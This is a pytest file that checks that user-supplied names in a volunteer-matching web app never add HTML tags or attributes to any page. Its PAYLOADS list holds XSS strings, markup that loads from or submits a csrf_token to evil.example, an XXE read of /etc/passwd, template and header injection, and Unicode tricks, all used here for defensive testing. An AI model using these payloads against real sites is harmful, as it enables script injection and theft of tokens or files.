"""Whatever somebody calls themselves stays text on every page, in the picture and in the export."""

import contextlib
from html.parser import HTMLParser

import pytest
from sqlalchemy import update

from koppeling.exchange.cells import clean
from koppeling.exchange.problems import BadCell
from koppeling.store import Account, District, Newcomer, Opening, Organisation, Town, Volunteer
from koppeling.store.engine import deed
from koppeling.terms import Role
from tests.databases import ON_SQLITE
from tests.factories import AccountFactory
from tests.web.browsers import browser, sign_in
from tests.web.places import address, settle
from web.access import ACCESS, Audience

pytestmark = ON_SQLITE

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\x0b>alert(1)</script\x0b>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=csrf_token>",
    "<button formaction=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</option></select><img src=x>",
    "</bdi></p></main><h1>x</h1>",
    "</text></svg><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% for x in y %}",
    "${7*7}#{7*7}%(x)s%s{0}",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onfocus=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    'x" style="position:fixed;inset:0',
    "x onmouseover=alert(1) y",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "\u2028<script>\u2029alert(1)</script>",
    "\u202e>tpircs<",
    "\u2066\u202e\u2069\u200b\u200d",
    "\u0430dmin \u0391\u0392",
    "e" + "\u0301" * 1_000,
    "Subject: x\r\nBcc: evil@example.org",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<" * 200 + ">" * 200,
)  # fmt: skip
BATCH = 10


class Structure(HTMLParser):
    """The tags of a page with the names of their attributes; values do not count, text neither."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(name for name, _value in attrs)))

    def handle_comment(self, data):
        self.tags.append(("comment", ()))

    def handle_decl(self, decl):
        self.tags.append((decl, ()))

    def handle_pi(self, data):
        self.tags.append(("instruction", ()))


NAMED = (
    (Newcomer, ("called", "full_name")),
    (Opening, ("title", "contact_name")),
    (Organisation, ("name", "contact_name", "website")),
    (Volunteer, ("name",)),
    (Account, ("name",)),
    (District, ("name",)),
    (Town, ("meeting_place",)),
)


def rename(engine, name):
    with deed(engine) as session:
        for table, columns in NAMED:
            session.execute(update(table).values(dict.fromkeys(columns, name)))


@pytest.fixture
def pages(app, session):
    """``pages()``: every page by its address, as each audience is given it."""
    place = settle(session, "enschede")
    staff = browser(app)
    sign_in(staff, session, AccountFactory(town=place.town, role=Role.COORDINATOR))
    chief = browser(app)
    sign_in(chief, session, AccountFactory(town=place.town, role=Role.ADMINISTRATOR))
    asked = []
    for rule in app.url_map.iter_rules():
        if "GET" not in (rule.methods or set()) or rule.endpoint == "static":
            continue
        client = chief if Audience.ADMINISTRATOR in ACCESS[rule.endpoint] else browser(app)
        if Audience.COORDINATOR in ACCESS[rule.endpoint]:
            client = staff
        asked.append((client, address(app, rule, place)))

    return lambda: {url: client.get(url).text for client, url in asked}


def kept() -> list[str]:
    """The payloads that a form would keep; what nobody can see is refused at every door."""
    found = []
    for payload in PAYLOADS:
        with contextlib.suppress(BadCell):
            found.append(clean(payload))
    return found


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), BATCH))
def test_name_makes_no_tag_and_no_attribute(pages, engine, first):
    rename(engine, "Plain")
    before = {url: Structure(page).tags for url, page in pages().items()}
    hostile = " ".join(kept()[first : first + BATCH])
    rename(engine, hostile)
    after = pages()
    changed = [url for url, page in after.items() if Structure(page).tags != before[url]]
    shown = [url for url, page in after.items() if "alert(1)" in page or "\u0301" in page]
    assert changed == []
    assert len(shown) > 10 or first == 50
    assert len(kept()) > 50
